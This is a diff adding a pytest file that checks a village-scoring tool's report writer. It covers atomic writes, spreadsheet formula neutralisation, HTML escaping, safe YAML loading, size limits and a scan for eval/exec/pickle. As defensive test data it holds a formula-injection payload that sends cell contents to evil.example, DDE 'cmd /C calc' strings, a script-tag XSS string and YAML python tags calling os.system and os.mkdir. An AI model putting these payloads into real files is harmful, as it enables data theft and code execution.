@@ -1,0 +1,331 @@
+"""Safe outputs (``villagescore.outputs``) and the safety rules around them (DESIGN §9).
+
+- reports are written atomically: a failed run never damages an existing report;
+- text cells that a spreadsheet would run as a formula are neutralised in CSV and XLSX,
+  and HTML escapes every text it did not generate;
+- YAML is loaded safely (no Python tags, no aliases) and input files have size limits
+  with clear messages;
+- no module of ``src/`` or ``plugins/`` evaluates code from anywhere (``eval``/``exec``…).
+"""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+import os
+from pathlib import Path
+
+import pytest
+
+from tests.corpus.harness import REPO, TOY_CSV, TOY_FRAMEWORK, run_cli, toy_registry
+from villagescore import datasets, framework, outputs
+from villagescore.errors import EXIT_INVALID, EXIT_OK, DatasetError, FrameworkError, OutputError
+from villagescore.outputs import FORMULA_PREFIXES, atomic_write, csv_bytes, neutralise
+
+OLD_REPORT = b"village_id,overall_score\nv1,88.3333\n"
+
+
+@pytest.fixture(scope="module")
+def registry():
+    return toy_registry()
+
+
+@pytest.fixture
+def existing_report(tmp_path) -> Path:
+    path = tmp_path / "report.csv"
+    path.write_bytes(OLD_REPORT)
+    return path
+
+
+def _leftovers(folder: Path) -> list[str]:
+    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))
+
+
+# ---- atomic writes ----
+
+
+def test_atomic_write_replaces_the_whole_file(existing_report):
+    atomic_write(existing_report, b"new content\n")
+
+    assert existing_report.read_bytes() == b"new content\n"
+    assert _leftovers(existing_report.parent) == []
+
+
+@pytest.mark.parametrize("failing", ["fsync", "replace"])
+def test_atomic_write_failing_mid_way_leaves_the_old_file_and_no_temp_file(existing_report, monkeypatch, failing):
+    def boom(*args, **kwargs):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(os, failing, boom)
+
+    with pytest.raises(OutputError, match="cannot write .*report.csv: No space left on device"):
+        atomic_write(existing_report, b"half a report")
+
+    assert existing_report.read_bytes() == OLD_REPORT
+    assert _leftovers(existing_report.parent) == []
+
+
+def test_atomic_write_into_a_missing_folder_is_a_clear_error(tmp_path):
+    with pytest.raises(OutputError, match="folder .*nowhere does not exist"):
+        atomic_write(tmp_path / "nowhere" / "report.csv", b"x")
+
+
+def test_cli_invalid_dataset_leaves_existing_report_untouched(existing_report, registry):
+    bad = REPO / "tests" / "corpus" / "datasets" / "percent-over-100.csv"
+
+    run = run_cli(["evaluate", bad, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", existing_report], registry)
+
+    assert run.exit_code == EXIT_INVALID
+    assert "column 'a' = 180" in run.stderr
+    assert existing_report.read_bytes() == OLD_REPORT
+    assert _leftovers(existing_report.parent) == []
+
+
+def test_cli_reporter_raising_leaves_existing_report_untouched(existing_report, registry, monkeypatch):
+    import dataclasses
+
+    def half_then_boom(result, lang):
+        result.summary_frame(lang=lang)  # do some of the work, then fail
+        raise RuntimeError("renderer crashed half-way")
+
+    broken = dataclasses.replace(registry.reporters["csv"], render=half_then_boom)
+    monkeypatch.setitem(registry.reporters, "csv", broken)
+
+    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", existing_report], registry)
+
+    assert run.exit_code != EXIT_OK
+    assert existing_report.read_bytes() == OLD_REPORT
+    assert _leftovers(existing_report.parent) == []
+
+
+def test_cli_write_failing_mid_way_leaves_existing_report_untouched(existing_report, registry, monkeypatch):
+    def disk_full(fd):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(os, "fsync", disk_full)
+
+    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", existing_report], registry)
+
+    assert run.exit_code == EXIT_INVALID
+    assert "cannot write" in run.stderr and "No space left on device" in run.stderr
+    assert "Traceback" not in run.output
+    assert existing_report.read_bytes() == OLD_REPORT
+    assert _leftovers(existing_report.parent) == []
+
+
+def test_cli_successful_run_replaces_the_report(existing_report, registry):
+    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK, "--format", "csv", "-o", existing_report], registry)
+
+    assert run.exit_code == EXIT_OK, run.output
+    text = existing_report.read_bytes().decode("utf-8-sig")
+    assert text.splitlines()[1].startswith("v1,Làng Một,")
+    assert _leftovers(existing_report.parent) == []
+
+
+# ---- spreadsheet formula injection ----
+
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
+    "commune": "+cmd|' /C calc'!A0",
+    "province": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+def test_neutralise_prefixes_every_formula_start(prefix):
+    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
+
+
+@pytest.mark.parametrize("value", ["Làng Một", "", "1+1", "a=b", " =1", 42, -5.5, None])
+def test_neutralise_leaves_other_values_alone(value):
+    assert neutralise(value) == value
+
+
+def test_csv_bytes_neutralises_header_and_cells_and_keeps_numbers():
+    data = csv_bytes(["=id", "score"], [["=1+1", -3.5], [None, 7]])
+
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM so that Excel reads Vietnamese
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows == [["'=id", "score"], ["'=1+1", "-3.5"], ["", "7"]]
+
+
+def _hostile_dataset(folder: Path) -> Path:
+    text = TOY_CSV.read_text(encoding="utf-8")
+    for column, value in HOSTILE.items():
+        original = {"name": "Làng Một", "commune": "Xã Một", "province": "Hà Nội"}[column]
+        quoted = '"' + value.replace('"', '""') + '"'
+        text = text.replace(f",{original},", f",{quoted},", 1) if column != "name" else text.replace(
+            f"v1,{original},", f"v1,{quoted},", 1)
+    path = folder / "hostile.csv"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def test_cli_csv_report_neutralises_formula_cells(tmp_path, registry):
+    out = tmp_path / "out.csv"
+
+    run = run_cli(["evaluate", _hostile_dataset(tmp_path), "-f", TOY_FRAMEWORK, "--format", "csv", "-o", out],
+                  registry)
+
+    assert run.exit_code == EXIT_OK, run.output
+    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
+    v1 = next(r for r in rows if r["village_id"] == "v1")
+    for column, value in HOSTILE.items():
+        assert v1[column] == "'" + value
+    for row in rows:
+        for cell in row.values():
+            assert not (cell or "").startswith(FORMULA_PREFIXES), cell
+
+
+def test_cli_xlsx_report_has_no_formula_and_neutralised_text(tmp_path, registry):
+    if "xlsx" not in registry.reporters:
+        pytest.skip("no XLSX reporter yet")
+    from openpyxl import load_workbook
+
+    out = tmp_path / "out.xlsx"
+    run = run_cli(["evaluate", _hostile_dataset(tmp_path), "-f", TOY_FRAMEWORK, "--format", "xlsx", "-o", out],
+                  registry)
+
+    assert run.exit_code == EXIT_OK, run.output
+    workbook = load_workbook(out)
+    seen = set()
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(FORMULA_PREFIXES), f"{sheet.title}!{cell.coordinate}"
+                    seen.add(cell.value)
+    assert "'" + HOSTILE["name"] in seen
+
+
+def test_cli_html_report_escapes_text_from_the_data(tmp_path, registry):
+    if "html" not in registry.reporters:
+        pytest.skip("no HTML reporter yet")
+    text = TOY_CSV.read_text(encoding="utf-8").replace("Làng Một", "<script>alert(1)</script>", 1)
+    path = tmp_path / "script.csv"
+    path.write_text(text, encoding="utf-8")
+    out = tmp_path / "out.html"
+
+    run = run_cli(["evaluate", path, "-f", TOY_FRAMEWORK, "--format", "html", "-o", out], registry)
+
+    assert run.exit_code == EXIT_OK, run.output
+    html = out.read_text(encoding="utf-8")
+    assert "<script>alert(1)</script>" not in html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+
+
+# ---- YAML loaded safely ----
+
+
+@pytest.mark.parametrize("tag", ["!!python/object/apply:os.mkdir", "!!python/object/new:os.mkdir",
+                                 "!!python/name:os.system", "!!python/object:pathlib.Path"])
+def test_python_yaml_tags_are_refused_and_never_run(tmp_path, tag):
+    marker = tmp_path / "pwned"
+    path = tmp_path / "evil.yaml"
+    path.write_text(TOY_FRAMEWORK.read_text(encoding="utf-8").replace(
+        "status: example\n", f"status: {tag} [{str(marker)!r}]\n"), encoding="utf-8")
+
+    with pytest.raises(FrameworkError) as caught:
+        framework.load_framework_document(path)
+
+    assert "could not determine a constructor" in str(caught.value)
+    assert "evil.yaml" in str(caught.value)
+    assert not marker.exists()
+
+
+def test_yaml_on_off_yes_no_stay_strings():
+    """YAML 1.1 would read an `on:` key as True: the loader keeps YAML 1.2 booleans only."""
+    import yaml
+
+    doc = yaml.load("on: value\nyes: no\nflag: true\n", Loader=framework._yaml_loader())  # noqa: S506
+    assert doc == {"on": "value", "yes": "no", "flag": True}
+
+
+# ---- size limits ----
+
+
+def test_framework_over_the_size_limit_is_refused_before_parsing(tmp_path, monkeypatch):
+    monkeypatch.setattr(framework, "MAX_FRAMEWORK_BYTES", 1000)
+    path = tmp_path / "big.yaml"
+    path.write_bytes(TOY_FRAMEWORK.read_bytes())  # ~1.6 kB
+
+    limited = r"big.yaml: the file is [\d,]+ bytes; framework files are limited to 1,000"
+    with pytest.raises(FrameworkError, match=limited):
+        framework.load_framework_document(path)
+
+
+def test_dataset_over_the_size_limit_is_refused_before_reading(tmp_path, monkeypatch, registry):
+    monkeypatch.setattr(datasets, "MAX_DATASET_BYTES", 100)
+    size = TOY_CSV.stat().st_size
+
+    with pytest.raises(DatasetError, match=rf"toy.csv: the file is {size:,} bytes; datasets are limited to 100"):
+        datasets.read_dataset(TOY_CSV, registry)
+
+    run = run_cli(["evaluate", TOY_CSV, "-f", TOY_FRAMEWORK], registry)
+    assert run.exit_code == EXIT_INVALID
+    assert "datasets are limited to 100" in run.stderr
+
+
+def test_workbook_unpacking_over_the_limit_is_refused(tmp_path, monkeypatch, registry):
+    from tests.corpus.generate import toy_rows, write_xlsx
+
+    path = write_xlsx(tmp_path / "toy.xlsx", toy_rows())
+    monkeypatch.setattr(datasets, "MAX_XLSX_UNCOMPRESSED", 1000)
+
+    with pytest.raises(DatasetError, match=r"toy.xlsx: the workbook unpacks to [\d,]+ bytes \(limit 1,000\)"):
+        datasets.read_dataset(path, registry)
+
+
+# ---- no evaluation of code ----
+
+#: calls that run code or unpickle objects; attribute calls cover pandas' .eval/.query too
+FORBIDDEN_NAMES = {"eval", "exec", "compile", "__import__"}
+FORBIDDEN_ATTRS = {"eval", "query", "unsafe_load", "full_load", "load_all"}
+UNSAFE_LOADERS = {"Loader", "UnsafeLoader", "FullLoader"}
+
+
+def _python_files() -> list[Path]:
+    files = sorted((REPO / "src").rglob("*.py")) + sorted((REPO / "plugins").rglob("*.py"))
+    return [f for f in files if "scaffold_template" not in f.parts]
+
+
+def _violations(path: Path) -> list[str]:
+    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
+    found = []
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Call):
+            func = node.func
+            if isinstance(func, ast.Name) and func.id in FORBIDDEN_NAMES:
+                found.append(f"{path}:{node.lineno}: {func.id}(")
+            if isinstance(func, ast.Attribute) and func.attr in FORBIDDEN_ATTRS:
+                found.append(f"{path}:{node.lineno}: .{func.attr}(")
+            for kw in node.keywords:
+                if kw.arg == "Loader" and isinstance(kw.value, ast.Attribute) and kw.value.attr in UNSAFE_LOADERS:
+                    found.append(f"{path}:{node.lineno}: Loader=yaml.{kw.value.attr}")
+        if isinstance(node, (ast.Import, ast.ImportFrom)):
+            names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
+            if any(n in ("pickle", "marshal", "shelve") for n in names if n):
+                found.append(f"{path}:{node.lineno}: imports {names}")
+    return found
+
+
+def test_no_module_evaluates_code():
+    files = _python_files()
+    assert len(files) > 20  # the scan really covers the core and the plugins
+    problems = [v for f in files for v in _violations(f)]
+    assert problems == []
+
+
+def test_the_scan_would_catch_an_eval(tmp_path):
+    sample = tmp_path / "sample.py"
+    sample.write_text("import yaml\nx = eval('1+1')\nframe.query('a > 1')\nyaml.load(s, Loader=yaml.Loader)\n")
+    assert [v.split(": ", 1)[1] for v in _violations(sample)] == ["eval(", ".query(", "Loader=yaml.Loader"]
+
+
+def test_outputs_module_is_what_the_writers_use():
+    """The CLI writes through outputs.atomic_write (so the guarantees above hold for every format)."""
+    source = (REPO / "src" / "villagescore" / "cli" / "options.py").read_text(encoding="utf-8")
+    assert "atomic_write(output, data)" in source
+    assert outputs.atomic_write is atomic_write
